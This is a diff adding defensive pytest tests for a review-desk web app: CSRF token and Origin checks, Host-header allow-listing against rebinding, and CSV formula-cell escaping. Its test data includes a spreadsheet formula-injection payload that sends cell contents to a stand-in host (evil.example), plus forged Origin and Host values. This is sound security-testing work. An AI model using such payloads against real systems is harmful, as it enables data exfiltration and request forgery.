@@ -24,7 +24,7 @@ from audits.desk.server import ServerThread
 from audits.desk.viewers import parse_captions, parse_chat, parse_eml, parse_team_chat, split_quoted_thread
 from audits.queue import AuditQueue
 
-from .desk_util import admin, next_item, reviewer, submit
+from .desk_util import admin, next_item, reviewer, submit, three_fact_bundle
 
 ROOT = Path(__file__).resolve().parents[1]
 TOKEN = "t0ken-for-tests"
@@ -360,6 +360,112 @@ def test_headers_sandbox_and_no_external_assets(desk):
     assert evil.status_code == 403
 
 
+@pytest.fixture()
+def small_desk(tmp_path, hand_facts):
+    """A desk over one hand-made bundle (no full build): (url, db, item id)."""
+    db = tmp_path / "audit.sqlite"
+    with AuditQueue(db) as q:
+        (item,) = q.enqueue(three_fact_bundle(tmp_path, hand_facts)).added
+    app = create_app(DeskConfig(db=db, admin_token=TOKEN, allow_hosts=["desk.example"]))
+    with ServerThread(app) as url:
+        yield url, db, item
+
+
+CSRF_INPUT = re.compile(r'<input type="hidden" name="csrf" value="([0-9a-f]*)">')
+
+
+def _forms_and_tokens(html: str) -> tuple[int, list[str]]:
+    return len(re.findall(r'<form method="post"|<form id="claims" method="post"', html)), CSRF_INPUT.findall(html)
+
+
+def test_state_changes_need_their_origin_or_the_form_token(small_desk):
+    url, db, item = small_desk
+    c = httpx.Client(base_url=url, timeout=60)                 # names no Origin, like an old or stripped client
+    signin = c.get("/")
+    (token,) = CSRF_INPUT.findall(signin.text)
+    assert len(token) == 64 and signin.cookies.get("ffdesk_csrf")
+    for headers in ({}, {"Origin": "null"}):
+        r = c.post("/signin", data={"name": "mallory", "next": "/"}, headers=headers)
+        assert r.status_code == 403 and "form token" in r.text
+        r = c.post("/signin", data={"name": "mallory", "csrf": "0" * 64}, headers=headers)
+        assert r.status_code == 403
+    assert "ffdesk" not in c.cookies and 'id="me"' not in c.get("/").text      # nothing changed
+    other = httpx.Client(base_url=url, timeout=60)
+    (other_token,) = CSRF_INPUT.findall(other.get("/").text)
+    assert other_token != token
+    assert c.post("/signin", data={"name": "mallory", "csrf": other_token}).status_code == 403   # another browser's
+    cookieless = httpx.Client(base_url=url, timeout=60)
+    assert cookieless.post("/signin", data={"name": "mallory", "csrf": token}).status_code == 403
+    assert c.post("/signin", data={"name": "nia", "next": "/", "csrf": token}, headers={"Origin": "null"}).status_code == 303
+    assert c.post("/signout", headers={"X-CSRF-Token": token}).status_code == 303
+    assert c.post("/signin", data={"name": "nia", "next": "/", "csrf": token}).status_code == 303
+    # every form the desk renders carries the token, and a browser that names no origin can use them
+    page = c.get(f"/review/{item}").text
+    forms, tokens = _forms_and_tokens(page)
+    assert forms >= 3 and tokens == [token] * forms             # claims, release, sign out
+    facts = re.findall(r'name="verdict:([^"]+)" value="present"', page)
+    data = {**{f"verdict:{f}": "present" for f in facts}, "realistic": "yes"}
+    assert c.post(f"/review/{item}", data=data).status_code == 403
+    with AuditQueue(db) as q:
+        assert q.reviews(item) == []
+    assert c.post(f"/review/{item}", data={**data, "csrf": token}).status_code == 303
+    with AuditQueue(db) as q:
+        assert [r["reviewer"] for r in q.reviews(item)] == ["nia"]
+    a = httpx.Client(base_url=url, timeout=60)
+    assert a.get(f"/admin?token={TOKEN}").status_code == 303
+    forms, tokens = _forms_and_tokens(a.get("/admin").text)
+    assert forms >= 2 and len(set(tokens)) == 1 and len(tokens) == forms    # enqueue, sign out
+    # a browser naming this desk as its origin needs no token; another site is refused even with one
+    assert c.post("/signout", headers={"Origin": url}).status_code == 303
+    evil = c.post("/signin", data={"name": "x", "csrf": token}, headers={"Origin": "http://evil.example"})
+    assert evil.status_code == 403
+
+
+def test_only_the_served_host_names_are_answered(small_desk):
+    url, _, _ = small_desk
+    port = httpx.URL(url).port
+    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST.:{port}", f"[::1]:{port}", f"desk.example:{port}",
+                 "desk.example"):
+        assert httpx.get(url + "/", headers={"Host": host}).status_code == 200, host
+    for host in (f"evil.example:{port}", "rebind.attacker.test", f"127.0.0.2:{port}", "desk.example.evil", "",
+                 "a b", "user@127.0.0.1"):
+        for method in ("GET", "POST"):
+            r = httpx.request(method, url + "/signin", headers={"Host": host, "Origin": url})
+            assert r.status_code == 400 and "--allow-host" in r.text, (method, host)
+    from audits.desk.guard import HostCheck
+    every = HostCheck("0.0.0.0", ["Desk.Lan"])
+    assert all(every.allows(h) for h in ("192.168.1.5:8765", "[fe80::1]:80", "desk.lan", "localhost"))
+    assert not any(every.allows(h) for h in ("evil.example", "192.168.1.5.nip.io", None))
+    one = HostCheck("10.1.2.3")
+    assert one.allows("10.1.2.3:8765") and not one.allows("10.1.2.4:8765") and not one.allows("desk.lan")
+
+
+def test_csv_export_writes_formula_cells_as_text(small_desk):
+    import csv
+    import io
+
+    from audits.desk.app import csv_cell
+    url, db, item = small_desk
+    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    c = reviewer(url, name)
+    got, facts, _ = next_item(c)
+    assert got == item
+    notes = {facts[0]: "fine"}
+    assert submit(c, item, {f: "present" for f in facts}, True, "@SUM(1+1)", notes).status_code == 303
+    with AuditQueue(db) as q:                                  # the item's two other reviews
+        q.submit(item, "r0", {f: "absent" for f in facts}, False, "+1+2")
+        q.submit(item, "r1", {f: "absent" for f in facts}, False, "-3+4")
+    a = admin(url, TOKEN)
+    rows = list(csv.DictReader(io.StringIO(a.get("/export.csv").text)))
+    assert {r["reviewer"] for r in rows} == {"'" + name.lower(), "r0", "r1"}
+    assert {r["comment"] for r in rows} == {"'@SUM(1+1)\n[" + facts[0] + "] fine", "'+1+2", "'-3+4"}
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    assert a.get("/export.json").json()[0]["reviews"][0]["reviewer"] == name.lower()    # the JSON keeps the text
+    for lead in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_cell(lead + "1") == "'" + lead + "1"
+    assert [csv_cell(x) for x in ("a=b", "", " =1", 7, -3, None)] == ["a=b", "", " =1", 7, -3, None]
+
+
 # ---------------------------------------------------------------- the commands
 
 def _start(args: list[str], env: dict) -> tuple[subprocess.Popen, list[str]]:
@@ -423,5 +529,18 @@ def test_ctrl_c_exits_130_even_when_started_with_sigint_ignored(tmp_path):
             if not line or line.startswith("Ctrl-C"):
                 break
         time.sleep(0.5)
+    finally:
+        _stop(p)
+
+
+def test_allow_host_option_adds_a_served_name(tmp_path):
+    env = dict(os.environ, FACTFORGE_AUDIT_DB=str(tmp_path / "audit.sqlite"), FACTFORGE_WORKSPACE=str(tmp_path))
+    p, lines = _start(["audit", "serve", "--port", "0", "--allow-host", "desk.example"], env)
+    try:
+        url = re.search(r"review desk: (http://\S+)/", lines[0]).group(1)
+        port = httpx.URL(url).port
+        assert httpx.get(url + "/", headers={"Host": f"desk.example:{port}"}).status_code == 200
+        assert httpx.get(url + "/", headers={"Host": f"127.0.0.1:{port}"}).status_code == 200
+        assert httpx.get(url + "/", headers={"Host": f"other.example:{port}"}).status_code == 400
     finally:
         _stop(p)
